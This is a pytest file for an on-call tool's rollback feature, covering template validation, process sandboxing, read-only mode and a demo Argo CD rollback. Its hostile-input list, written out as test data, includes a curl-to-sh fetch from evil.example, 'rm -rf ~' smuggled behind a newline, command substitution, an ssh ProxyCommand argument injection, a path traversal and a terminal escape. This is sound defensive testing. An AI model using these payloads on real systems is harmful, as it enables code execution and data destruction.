"""Rollback: placeholder validation, argv built from hostile labels, the process runner, the
CD request, read-only, and the demo's Argo CD recovering the incident (SECURITY.md R3, R6)."""

from __future__ import annotations

import asyncio
import json
import os
import stat
import sys
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import httpx
import pytest

from oncall_tui.actions.audit import AuditLog
from oncall_tui.actions.core import ActionRunner, ReadOnlyRefused
from oncall_tui.actions.process import MAX_OUTPUT_BYTES, child_env, run_process
from oncall_tui.actions.rollback import (
    build_plan,
    execute,
    fetch_versions,
    versions_from_series,
)
from oncall_tui.actions.template import (
    TemplateRejected,
    fill,
    fill_argv,
    fill_json,
    template_values,
    validate_value,
)
from oncall_tui.actions.timeline import Timeline
from oncall_tui.clients.prometheus import PrometheusClient
from oncall_tui.clients.session import BackendSession
from oncall_tui.core.timerange import TimeRange
from oncall_tui.demo import DemoIncident, DemoTransport, demo_settings
from oncall_tui.demo.common import CD_URL, PROMETHEUS_URL
from oncall_tui.settings.actions import RollbackConfig

T0 = 1_795_300_000.0

#: SECURITY.md R3.7 and hostile inputs 17-19, plus a few more identity/terminal tricks.
HOSTILE = [
    "web-1; curl https://evil.example/x | sh #",
    "$(id)",
    "`id`",
    "x' && id && echo '",
    "web-1\nrm -rf ~",
    "a\nrm -rf ~",
    "--kubeconfig=/tmp/evil",
    "-oProxyCommand=sh -c id",
    "../../etc/passwd",
    "{labels.namespace}",
    "{{ 7*7 }}",
    "${HOME}",
    "web\u202e1",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "web-1\r",
    "web-1\x00x",
    "x [/] y",
    "",
]


class Clock:
    def __init__(self, now: float = T0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


# ----------------------------------------------------------------------- helpers --
def fake_executable(tmp_path: Path, *, audit: Path | None = None, exit_code: int = 0, output: str = "") -> tuple[Path, Path]:
    """A program that appends json of its argv, session, env (and the audit log) to a file."""
    record = tmp_path / "calls.jsonl"
    script = tmp_path / "fake-kubectl"
    script.write_text(
        f"#!{sys.executable}\n"
        "import json, os, sys\n"
        f"audit = {str(audit) if audit else ''!r}\n"
        "rec = {'argv': sys.argv[1:], 'sid': os.getsid(0), 'pgid': os.getpgid(0), 'pid': os.getpid(),\n"
        "       'env': dict(os.environ), 'stdin_tty': os.isatty(0),\n"
        "       'audit': open(audit).read() if audit and os.path.exists(audit) else None}\n"
        f"with open({str(record)!r}, 'a') as f:\n"
        "    f.write(json.dumps(rec) + '\\n')\n"
        f"sys.stdout.write({output!r})\n"
        f"sys.exit({exit_code})\n"
    )
    script.chmod(0o755)
    return script, record


def calls(record: Path) -> list[dict[str, Any]]:
    if not record.exists():
        return []
    return [json.loads(line) for line in record.read_text().splitlines() if line]


def runner(tmp_path: Path, *, read_only: bool = False) -> ActionRunner:
    return ActionRunner(
        "test",
        read_only=read_only,
        protected=False,
        audit=AuditLog(tmp_path / "audit.jsonl"),
        user="tester",
        timeline=Timeline(tmp_path / "timeline.jsonl"),
    )


def argv_config(script: Path, **kw: Any) -> RollbackConfig:
    return RollbackConfig.model_validate(
        {
            "argv": [str(script), "rollout", "undo", "deployment/{labels.deployment}", "-n", "{labels.namespace}", "--", "{labels.deployment}"],
            "dry_run_argv": [str(script), "rollout", "undo", "deployment/{labels.deployment}", "--dry-run=server"],
            "timeout_seconds": 30,
            **kw,
        }
    )


def http_config(**kw: Any) -> RollbackConfig:
    return RollbackConfig.model_validate(
        {
            "http": {
                "endpoint": {"url": "https://cd.example.com", "no_proxy": True},
                "path": "/api/v1/applications/{labels.app}/rollback",
                "body": {"name": "{labels.app}", "id": 1, "dryRun": False},
                "dry_run_body": {"name": "{labels.app}", "id": 1, "dryRun": True},
            },
            **kw,
        }
    )


def run(coro: Any) -> Any:
    return asyncio.run(coro)


# ------------------------------------------------------------------- template unit --
def test_template_values_keys() -> None:
    values = template_values({"namespace": "prod", "pod": "p-1"}, service="llm", context="prod-eu")
    assert values == {"labels.namespace": "prod", "labels.pod": "p-1", "service": "llm", "context": "prod-eu"}


@pytest.mark.parametrize("value", HOSTILE)
def test_default_allow_list_rejects_every_hostile_value(value: str) -> None:
    with pytest.raises(TemplateRejected) as info:
        validate_value("labels.deployment", value, {})
    message = str(info.value)
    assert "{labels.deployment}" in message
    # the reason is inert: no raw control or bidi character survives
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u200b" for c in message)


def test_rejection_reasons() -> None:
    with pytest.raises(TemplateRejected, match="label 'namespace' is missing"):
        validate_value("labels.namespace", None, {})
    with pytest.raises(TemplateRejected, match="starts with '-'"):
        validate_value("labels.x", "-n", {"labels.x": ".*"})
    with pytest.raises(TemplateRejected, match="control, newline") as info:
        validate_value("labels.x", "web\u202e1", {"labels.x": ".*"})
    assert "<U+202E>" in str(info.value)  # R1.3 marker, not the raw override
    with pytest.raises(TemplateRejected, match="control, newline") as info:
        validate_value("labels.x", "a\x1b[2Jb", {"labels.x": ".*"})
    assert "\\x1b" in str(info.value) and "\x1b" not in str(info.value)
    with pytest.raises(TemplateRejected, match="allow-list"):
        validate_value("labels.x", "prod;id", {"labels.x": "[a-z]+"})


def test_fullmatch_not_search_and_no_multiline_bypass() -> None:
    assert validate_value("labels.ns", "prod", {"labels.ns": "prod|staging"}) == "prod"
    for bad in ("prod-evil", "xprod", "prod\n", "staging\nrm -rf ~"):
        with pytest.raises(TemplateRejected):
            validate_value("labels.ns", bad, {"labels.ns": "prod|staging"})
    # an anchored pattern that `re.match(..., re.M)` would accept with a trailing line
    with pytest.raises(TemplateRejected):
        validate_value("labels.ns", "prod\nx", {"labels.ns": "^prod$"})


def test_service_and_context_are_validated_too() -> None:
    with pytest.raises(TemplateRejected, match=r"\{service\}"):
        fill("{service}", template_values({}, service="-rf", context="c"), {})
    assert fill("{context}/{service}", template_values({}, service="llm", context="prod-eu"), {}) == "prod-eu/llm"


@pytest.mark.parametrize(
    "value", ["{labels.namespace}", "{{ 7*7 }}", "$(id)", "`id`", "${HOME}", "{service}", "%(x)s", "{0}"]
)
def test_substitution_is_single_pass_and_inert(value: str) -> None:
    values = template_values({"x": value, "namespace": "prod"}, service="llm", context="c")
    assert fill("pre-{labels.x}-post", values, {"labels.x": ".+"}) == f"pre-{value}-post"
    assert fill_json({"k": "{labels.x}", "n": 1, "l": ["{labels.x}"]}, values, {"labels.x": ".+"}) == {
        "k": value,
        "n": 1,
        "l": [value],
    }


def test_fill_argv_keeps_one_element_per_template_element() -> None:
    values = template_values({"deployment": "a b c", "namespace": "prod"}, service="s", context="c")
    argv = fill_argv(["kubectl", "deploy/{labels.deployment}", "-n", "{labels.namespace}"], values, {"labels.deployment": "[a-z ]+"})
    assert argv == ("kubectl", "deploy/a b c", "-n", "prod")
    with pytest.raises(TypeError):
        fill_argv("kubectl rollout undo", values, {})  # type: ignore[arg-type]


def test_shell_true_script_may_not_hold_placeholders() -> None:
    values = template_values({"d": "web"}, service="s", context="c")
    with pytest.raises(TemplateRejected, match="script"):
        fill_argv(["sh", "-c", "kubectl rollout undo {labels.d}", "sh"], values, {}, shell=True)
    assert fill_argv(["sh", "-c", 'echo "$1"', "sh", "{labels.d}"], values, {}, shell=True)[-1] == "web"
    with pytest.raises(ValueError):  # the settings refuse it at load time
        RollbackConfig.model_validate({"argv": ["sh", "-c", "undo {labels.d}", "sh"], "shell": True})
    with pytest.raises(ValueError):
        RollbackConfig.model_validate({"argv": "kubectl rollout undo deploy/x"})


# --------------------------------------------------------- the fake executable (R3.7) --
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_label_is_rejected_or_one_literal_argument(tmp_path: Path, value: str) -> None:
    """With a permissive allow-list, each value is refused or arrives as exactly one argument."""
    script, record = fake_executable(tmp_path)
    config = argv_config(script, placeholders={"labels.deployment": "(?s:.*)"})
    labels = {"deployment": value, "namespace": "prod"}
    plan = build_plan(config, service="web", labels=labels, context="test")
    if not plan.enabled:
        assert plan.disabled_reason and "{labels.deployment}" in plan.disabled_reason
        with pytest.raises(TemplateRejected):
            run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
        assert calls(record) == []  # nothing started
        assert AuditLog(tmp_path / "audit.jsonl").records() == []
        assert value == "" or value.startswith("-") or any(ord(c) < 0x20 or c == "\u202e" for c in value)
        return
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    assert outcome.ok, outcome.detail
    (call,) = calls(record)
    assert call["argv"] == ["rollout", "undo", f"deployment/{value}", "-n", "prod", "--", value]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_label_with_default_allow_list_never_starts_anything(tmp_path: Path, value: str) -> None:
    script, record = fake_executable(tmp_path)
    plan = build_plan(argv_config(script), service="web", labels={"deployment": value, "namespace": "prod"}, context="t")
    assert not plan.enabled and "{labels.deployment}" in (plan.disabled_reason or "")
    with pytest.raises(TemplateRejected):
        run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    assert calls(record) == []


def test_missing_label_disables_with_reason(tmp_path: Path) -> None:
    script, _ = fake_executable(tmp_path)
    plan = build_plan(argv_config(script), service="web", labels={"deployment": "web"}, context="t")
    assert not plan.enabled
    assert "{labels.namespace}" in (plan.disabled_reason or "") and "missing" in (plan.disabled_reason or "")
    assert not build_plan(None, service="web", labels={}, context="t").enabled


@pytest.mark.parametrize("value", ["$(id)", "`id`", "x' && id && echo '", "web-1; curl https://evil.example/x | sh #", "${HOME}", "{{ 7*7 }}"])
def test_shell_true_passes_values_as_positional_parameters(tmp_path: Path, value: str) -> None:
    script, record = fake_executable(tmp_path)
    config = RollbackConfig.model_validate(
        {
            "argv": ["sh", "-c", f'exec "{script}" undo "deploy/$1" -n "$2"', "sh", "{labels.deployment}", "{labels.namespace}"],
            "shell": True,
            "placeholders": {"labels.deployment": ".+"},
        }
    )
    plan = build_plan(config, service="web", labels={"deployment": value, "namespace": "prod"}, context="t")
    assert plan.argv is not None and plan.argv[4] == value  # a positional parameter, not script text
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    assert outcome.ok, outcome.detail
    (call,) = calls(record)
    assert call["argv"] == ["undo", f"deploy/{value}", "-n", "prod"]


def test_intent_is_audited_before_the_process_starts(tmp_path: Path) -> None:
    script, record = fake_executable(tmp_path, audit=tmp_path / "audit.jsonl", output="rolled back\n")
    plan = build_plan(argv_config(script), service="web", labels={"deployment": "web", "namespace": "prod"}, context="t")
    preview = plan.preview()
    assert "[3] \"deployment/web\"" in preview.text()  # one element per line, quoted
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out", extra={"alert_fingerprint": "abc"}))
    assert outcome.ok and outcome.process is not None and outcome.process.exit_code == 0
    (call,) = calls(record)
    seen = [json.loads(line) for line in call["audit"].splitlines()]
    assert [r["type"] for r in seen] == ["intent"]  # the intent was on disk, the result not yet
    assert seen[0]["kind"] == "rollback" and seen[0]["preview"]["argv"] == [str(script), *call["argv"]]
    assert seen[0]["preview"]["argv_sha256"] == preview.argv_sha256
    assert seen[0]["output_path"] == str(outcome.process.output_path)
    records = AuditLog(tmp_path / "audit.jsonl").records()
    result = records[-1]
    assert result["type"] == "result" and result["ok"] is True and result["exit_code"] == 0
    assert "rolled back" in result["output"]


def test_child_runs_in_its_own_session_with_a_minimal_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ONCALL_TUI_PROMETHEUS_TOKEN", "CANARY-7f3a9")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "CANARY-7f3a9")
    monkeypatch.setenv("GRAFANA_TOKEN", "CANARY-7f3a9")
    script, record = fake_executable(tmp_path)
    config = argv_config(script, env={"KUBECONFIG": "/etc/kube/config"})
    plan = build_plan(config, service="web", labels={"deployment": "web", "namespace": "prod"}, context="t")
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    assert outcome.ok
    (call,) = calls(record)
    assert call["sid"] != os.getsid(0)  # start_new_session: survives SIGHUP of the app's session
    assert call["sid"] == call["pid"] == call["pgid"]
    assert call["stdin_tty"] is False
    env = call["env"]
    assert env["KUBECONFIG"] == "/etc/kube/config"
    assert set(env) <= {"PATH", "HOME", "LANG", "KUBECONFIG", "LC_CTYPE"}
    assert "CANARY-7f3a9" not in json.dumps(env)
    with pytest.raises(ValueError):
        child_env({"LD_PRELOAD": "/tmp/evil.so"})


def test_nonzero_exit_is_a_recorded_failure_with_sanitised_output(tmp_path: Path) -> None:
    script, _ = fake_executable(tmp_path, exit_code=3, output="error: \x1b]52;c;ZWNobyBwd25lZA==\x07 not found\n")
    plan = build_plan(argv_config(script), service="web", labels={"deployment": "web", "namespace": "prod"}, context="t")
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    assert not outcome.ok and outcome.process is not None
    assert outcome.process.exit_code == 3
    assert "\x1b" not in outcome.process.output and "\\x1b]52;c;" in outcome.process.output
    assert "exit code 3" in outcome.detail and "\x1b" not in outcome.detail
    result = AuditLog(tmp_path / "audit.jsonl").records()[-1]
    assert result["type"] == "result" and result["ok"] is False and "exit code 3" in result["detail"]
    events = Timeline(tmp_path / "timeline.jsonl").events()
    assert events[-1].kind == "result" and "failed" in events[-1].text and "\x1b" not in events[-1].text
    path = outcome.process.output_path
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and "\x1b]52" in path.read_text()


def test_output_reaches_the_timeline(tmp_path: Path) -> None:
    script, _ = fake_executable(tmp_path, output='deployment.apps/web rolled back\n')
    plan = build_plan(argv_config(script), service="web", labels={"deployment": "web", "namespace": "prod"}, context="t")
    run(execute(runner(tmp_path), plan, output_dir=tmp_path / "out"))
    result = Timeline(tmp_path / "timeline.jsonl").events()[-1]
    assert result.kind == "result" and result.text.startswith("rollback web: ok: exit code 0")
    assert "deployment.apps/web rolled back" in result.detail["output"]


def _gone(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] == "Z"
    except OSError:
        return True


def test_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    script = tmp_path / "slow"
    script.write_text(
        f"#!{sys.executable}\n"
        "import os, signal, subprocess, sys, time\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)  # forces the SIGKILL escalation\n"
        "child = subprocess.Popen(['sleep', '60'])\n"
        f"open({str(pids)!r}, 'w').write(f'{{os.getpid()}} {{child.pid}}')\n"
        "print('working', flush=True)\n"
        "time.sleep(60)\n"
    )
    script.chmod(0o755)
    started = time.monotonic()
    result = run(run_process([str(script)], timeout=1.0, output_dir=tmp_path / "out", kill_grace=0.5))
    assert time.monotonic() - started < 10
    assert result.timed_out and not result.ok and result.exit_code == -9
    assert "timed out" in result.summary()
    assert "working" in result.output
    parent, child = (int(p) for p in pids.read_text().split())
    deadline = time.monotonic() + 5
    while not (_gone(parent) and _gone(child)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _gone(parent) and _gone(child)


def test_output_is_capped_with_a_marker(tmp_path: Path) -> None:
    result = run(
        run_process(
            [sys.executable, "-c", "import sys; sys.stdout.write('A' * 200_000 + 'END')"],
            timeout=30,
            output_dir=tmp_path / "out",
        )
    )
    assert result.ok
    assert result.output.endswith("END")
    assert "bytes omitted" in result.output and len(result.output) < MAX_OUTPUT_BYTES + 300
    assert result.output_path.stat().st_size == 200_003


def test_run_process_refuses_a_string_command(tmp_path: Path) -> None:
    with pytest.raises(TypeError):
        run(run_process("kubectl rollout undo deploy/x", timeout=1, output_dir=tmp_path))  # type: ignore[arg-type]


# ------------------------------------------------------------------------ HTTP plan --
class Counting(httpx.AsyncBaseTransport):
    def __init__(self, status: int = 200, body: Any = None) -> None:
        self.requests: list[httpx.Request] = []
        self.status = status
        self.body = body if body is not None else {"status": {"sync": {"status": "Synced"}}}

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        await request.aread()
        self.requests.append(request)
        return httpx.Response(self.status, json=self.body, request=request)


def test_http_plan_url_encodes_path_values_and_fills_body(tmp_path: Path) -> None:
    config = http_config(placeholders={"labels.app": ".+"})
    plan = build_plan(config, service="web", labels={"app": "a/../../x?y#z"}, context="t")
    assert plan.http is not None
    assert plan.http.path == "/api/v1/applications/a%2F..%2F..%2Fx%3Fy%23z/rollback"
    assert plan.http.body == {"name": "a/../../x?y#z", "id": 1, "dryRun": False}
    transport = Counting()
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path, transport=transport))
    assert outcome.ok and outcome.status == 200
    (request,) = transport.requests
    assert request.method == "POST" and request.url.host == "cd.example.com"
    assert request.url.raw_path.decode() == "/api/v1/applications/a%2F..%2F..%2Fx%3Fy%23z/rollback"
    assert json.loads(request.content) == {"name": "a/../../x?y#z", "id": 1, "dryRun": False}


def test_http_failure_is_recorded_and_never_retried(tmp_path: Path) -> None:
    plan = build_plan(http_config(), service="web", labels={"app": "web"}, context="t")
    transport = Counting(503, {"error": "unavailable", "code": 14, "message": "x [/] y \x1b[2J"})
    outcome = run(execute(runner(tmp_path), plan, output_dir=tmp_path, transport=transport))
    assert not outcome.ok and outcome.status == 503
    assert len(transport.requests) == 1  # a POST is never retried (R4.2)
    assert "\x1b" not in outcome.detail
    result = AuditLog(tmp_path / "audit.jsonl").records()[-1]
    assert result["ok"] is False and result["payload"]["body"]["dryRun"] is False  # kept for retry


# ------------------------------------------------------------------------ read-only --
class SpawnSpy:
    def __init__(self) -> None:
        self.calls = 0

    async def __call__(self, *args: Any, **kw: Any) -> Any:
        self.calls += 1
        raise AssertionError("a process was started in read-only mode")


@pytest.mark.parametrize("dry_run", [False, True])
def test_read_only_starts_no_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, dry_run: bool) -> None:
    spy = SpawnSpy()
    monkeypatch.setattr(asyncio, "create_subprocess_exec", spy)
    script, record = fake_executable(tmp_path)
    plan = build_plan(argv_config(script), service="web", labels={"deployment": "web", "namespace": "prod"}, context="t")
    with pytest.raises(ReadOnlyRefused):
        run(execute(runner(tmp_path, read_only=True), plan, dry_run=dry_run, output_dir=tmp_path / "out"))
    assert spy.calls == 0 and calls(record) == []
    assert AuditLog(tmp_path / "audit.jsonl").records() == []
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("dry_run", [False, True])
def test_read_only_sends_no_request(tmp_path: Path, dry_run: bool) -> None:
    plan = build_plan(http_config(), service="web", labels={"app": "web"}, context="t")
    writes: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        writes.append(request.method)
        return httpx.Response(200, json={})

    transport = httpx.MockTransport(handler)
    with pytest.raises(ReadOnlyRefused):
        run(execute(runner(tmp_path, read_only=True), plan, dry_run=dry_run, output_dir=tmp_path, transport=transport))
    assert [m for m in writes if m in ("POST", "PUT", "PATCH", "DELETE")] == [] and writes == []
    assert AuditLog(tmp_path / "audit.jsonl").records() == []


# --------------------------------------------------------------------------- versions --
def test_versions_from_series() -> None:
    series: list[tuple[Mapping[str, str], float]] = [
        ({"model_version": "v2.3"}, 100.0),
        ({"model_version": "v2.4"}, 200.0),
        ({"model_version": "v2.3"}, 150.0),
        ({"other": "x"}, 300.0),
    ]
    assert versions_from_series(series, "model_version") == ("v2.4", "v2.3")
    assert versions_from_series(series, "model_version", current="v2.3") == ("v2.3", "v2.4")
    assert versions_from_series([], "model_version") == (None, None)


def test_fetch_versions_without_query_uses_the_alert_label() -> None:
    config = http_config()
    versions = run(fetch_versions(None, config, labels={"model_version": "v9"}, service="s", context="c"))
    assert versions.current == "v9" and versions.target is None and versions.error is None
    assert "unknown" in versions.describe()


def test_fetch_versions_failure_is_reported_not_raised() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(400, json={"status": "error", "errorType": "bad_data", "error": "parse error"})

    prom = PrometheusClient(httpx.AsyncClient(base_url="http://prom", transport=httpx.MockTransport(handler)))
    config = http_config(version_query='up{service="{service}"}')
    versions = run(fetch_versions(prom, config, labels={}, service="web", context="c", now=T0))
    assert versions.current is None and versions.error and "parse error" in versions.error


# ---------------------------------------------------------------- the demo's Argo CD --
async def _demo_rollback(tmp_path: Path) -> None:
    clock = Clock()
    incident = DemoIncident(start=T0, offset=900.0, clock=clock)
    transport = DemoTransport(incident)
    context = demo_settings().context("demo")
    service = next(s for s in context.services if s.name == "llm-server")
    session = BackendSession(context, transport=transport, clock=clock)
    try:
        before = await session.fetch_triage(TimeRange())
        errors_before = next(r for r in before.rows if r.service == "llm-server").values["errors"]
        assert errors_before is not None and errors_before > 0.05
        alert = next(a for a in before.alerts if a.name == "LLMServerHighErrorRate")
        plan = build_plan(service.rollback, service="llm-server", labels=alert.labels, context="demo")
        assert plan.enabled and plan.has_dry_run
        assert plan.http is not None and plan.http.url == CD_URL + "/api/v1/applications/llm-server/rollback"
        versions = await fetch_versions(
            session.prometheus, service.rollback, labels=alert.labels, service="llm-server", context="demo", now=clock()
        )
        assert (versions.current, versions.target) == ("v2.4", "v2.3")
        r = runner(tmp_path)
        dry = await execute(r, plan, dry_run=True, output_dir=tmp_path, transport=transport)
        assert dry.ok and incident.rollback_at("llm-server") is None
        done = await execute(r, plan, output_dir=tmp_path, transport=transport)
        assert done.ok and done.status == 200 and '"targetRevision":"v2.3"' in (done.response or "")
        assert incident.rollback_at("llm-server") is not None
        again = await execute(r, plan, output_dir=tmp_path, transport=transport)
        assert not again.ok and again.status == 400  # nothing left to roll back
        clock.now += 120
        after = await session.fetch_triage(TimeRange())
        errors_after = next(row for row in after.rows if row.service == "llm-server").values["errors"]
        assert errors_after is not None and errors_after < 0.01
        versions = await fetch_versions(
            session.prometheus, service.rollback, labels={}, service="llm-server", context="demo", now=clock()
        )
        assert versions.current == "v2.3"
    finally:
        await session.aclose()
        await transport.aclose()


def test_demo_cd_rollback_brings_the_error_rate_down(tmp_path: Path) -> None:
    run(_demo_rollback(tmp_path))


async def _demo_cd_errors() -> None:
    incident = DemoIncident(start=T0, offset=900.0, clock=Clock())
    transport = DemoTransport(incident)
    async with httpx.AsyncClient(base_url=CD_URL, transport=transport) as client:
        missing = await client.post("/api/v1/applications/nope/rollback", json={"id": 1})
        assert missing.status_code == 404 and missing.json()["code"] == 5
        no_history = await client.post("/api/v1/applications/embedder/rollback", json={"id": 1})
        assert no_history.status_code == 400
        bad_id = await client.post("/api/v1/applications/llm-server/rollback", json={"id": 7})
        assert bad_id.status_code == 400 and "id 7" in bad_id.json()["message"]
        app = await client.get("/api/v1/applications/llm-server")
        body = app.json()
        assert body["metadata"]["name"] == "llm-server"
        assert [h["source"]["targetRevision"] for h in body["status"]["history"]] == ["v2.3", "v2.4"]
    prom = await httpx.AsyncClient(base_url=PROMETHEUS_URL, transport=transport).get("/api/v1/query", params={"query": "up"})
    assert prom.status_code == 200
    assert incident.rollback_at("llm-server") is None
    await transport.aclose()


def test_demo_cd_api_errors() -> None:
    run(_demo_cd_errors())
